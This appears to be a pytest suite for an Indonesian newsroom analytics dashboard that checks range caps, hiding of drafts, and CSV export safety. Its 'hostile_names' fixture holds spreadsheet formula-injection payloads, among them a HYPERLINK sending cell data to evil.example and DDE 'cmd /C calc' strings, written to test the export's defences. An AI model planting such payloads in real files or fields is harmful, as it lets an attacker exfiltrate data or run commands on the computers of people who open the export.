"""Jangkauan refuses unbounded ranges, shows no drafts, and exports inert spreadsheet cells."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from analytics.export import TABLES
from analytics.factories import MetricSnapshotFactory
from news.factories import AgencyFactory, ArticlePageFactory, ReporterFactory
from news.models import DailyArticleViews
from syndication.factories import SyndicationFactory

pytestmark = [pytest.mark.django_db, pytest.mark.clock]
TWO_THOUSAND_YEARS = {"rentang": "custom", "dari": "0026-01-01", "sampai": "2026-11-27"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_dashboard_refuses_a_range_of_two_thousand_years(login, newsroom):
    response = login("Analis").get("/admin/jangkauan/", TWO_THOUSAND_YEARS)

    assert response.status_code == 200
    assert "Rentang tanggal paling panjang 731 hari" in response.content.decode()
    # The report was built for the default 30 days, not for 740.000 of them.
    assert len(response.context["report"]["series"]["days"]) == 30


def test_the_longest_allowed_range_is_accepted(login, newsroom):
    today = timezone.localdate()
    params = {
        "rentang": "custom",
        "dari": (today - timedelta(days=730)).isoformat(),
        "sampai": today.isoformat(),
    }
    response = login("Analis").get("/admin/jangkauan/", params)
    assert len(response.context["report"]["series"]["days"]) == 731


def test_the_range_cap_is_a_setting(login, newsroom, settings):
    settings.ANALYTICS_MAX_RANGE_DAYS = 5
    params = {"rentang": "custom", "dari": "2026-11-20", "sampai": "2026-11-27"}
    response = login("Analis").get("/admin/jangkauan/", params)
    assert "paling panjang 5 hari" in response.content.decode()


@pytest.mark.parametrize("table", list(TABLES))
def test_an_export_of_two_thousand_years_is_refused_with_a_message(login, newsroom, table):
    response = login("Analis").get(
        "/admin/jangkauan/export/", {**TWO_THOUSAND_YEARS, "table": table}
    )

    assert response.status_code == 400
    assert "Rentang tanggal paling panjang 731 hari" in response.content.decode()
    assert len(response.content) < 1000


def test_an_articles_reach_page_refuses_two_thousand_years(login, newsroom):
    flood = newsroom["flood"]
    response = login("Analis").get(f"/admin/jangkauan/artikel/{flood.pk}/", TWO_THOUSAND_YEARS)

    assert response.status_code == 200
    assert "Rentang tanggal paling panjang 731 hari" in response.content.decode()
    assert len(response.context["reach"]["series"]["days"]) == 30


@pytest.fixture
def hostile_names(newsroom):
    """Names and a title an attacker could give, each starting like a spreadsheet formula."""
    flood, kapuas, dinkes = newsroom["flood"], newsroom["kapuas"], newsroom["dinkes"]
    flood.title = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    flood.save_revision().publish()
    kapuas.name = "+cmd|' /C calc'!A0"
    kapuas.save()
    dinkes.name = "-2+3+cmd|' /C calc'!A0"
    dinkes.save()
    reporter = flood.reporter_links.first().reporter
    reporter.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    reporter.save()
    school = newsroom["school"]
    school.title = "\tTab di depan"
    school.save_revision().publish()
    return {
        "teratas": [f"'{flood.title}", f"'{school.title}"],
        "wilayah": [f"'{kapuas.name}"],
        "opd": [f"'{dinkes.name}"],
        "pewarta": [f"'{reporter.name}"],
    }


@pytest.mark.parametrize("table", list(TABLES))
def test_no_exported_cell_can_run_as_a_formula(login, newsroom, hostile_names, table):
    response = login("Analis").get("/admin/jangkauan/export/", {"rentang": "7", "table": table})

    cells = [cell for row in rows_of(response) for cell in row]
    assert cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for shown in hostile_names.get(table, []):
        assert shown in cells


@pytest.fixture
def draft(newsroom):
    """A never-published draft that somehow has views and a posted row."""
    draft = ArticlePageFactory(
        title="Draf Rahasia Belum Terbit", live=False, first_published_at=None
    )
    DailyArticleViews.objects.create(page=draft, date=timezone.localdate(), views=9_000_000)
    row = SyndicationFactory(posted=True, page=draft)
    MetricSnapshotFactory(syndication=row, collected_at=timezone.now(), views=8_000_000)
    return draft


def test_a_never_published_drafts_reach_page_is_not_found(login, draft):
    assert login("Analis").get(f"/admin/jangkauan/artikel/{draft.pk}/").status_code == 404


def test_an_article_taken_offline_keeps_its_reach_page(login, newsroom):
    flood = newsroom["flood"]
    flood.unpublish()
    response = login("Analis").get(f"/admin/jangkauan/artikel/{flood.pk}/?rentang=7")
    assert response.status_code == 200
    assert "Banjir Kapuas Surut" in response.content.decode()


def test_drafts_never_appear_in_the_dashboard_or_the_exports(login, draft):
    client = login("Analis")
    dashboard = client.get("/admin/jangkauan/?rentang=7").content.decode()
    assert "Draf Rahasia" not in dashboard
    assert "9.000.000" not in dashboard and "8.000.000" not in dashboard
    for table in TABLES:
        exported = client.get("/admin/jangkauan/export/", {"rentang": "7", "table": table})
        text = exported.content.decode()
        assert "Draf Rahasia" not in text, table
        assert "9.000.000" not in text and "8.000.000" not in text, table


def test_an_opd_or_reporter_named_like_a_formula_is_still_counted(login, newsroom):
    agency = AgencyFactory(name="=1+1")
    reporter = ReporterFactory(name="@reporter")
    article = ArticlePageFactory(agencies=[agency], reporters=[reporter])
    DailyArticleViews.objects.create(page=article, date=timezone.localdate(), views=42)
    client = login("Analis")
    opd = rows_of(client.get("/admin/jangkauan/export/", {"rentang": "7", "table": "opd"}))
    assert ["'=1+1", "42", "0", "0", "0"] in opd
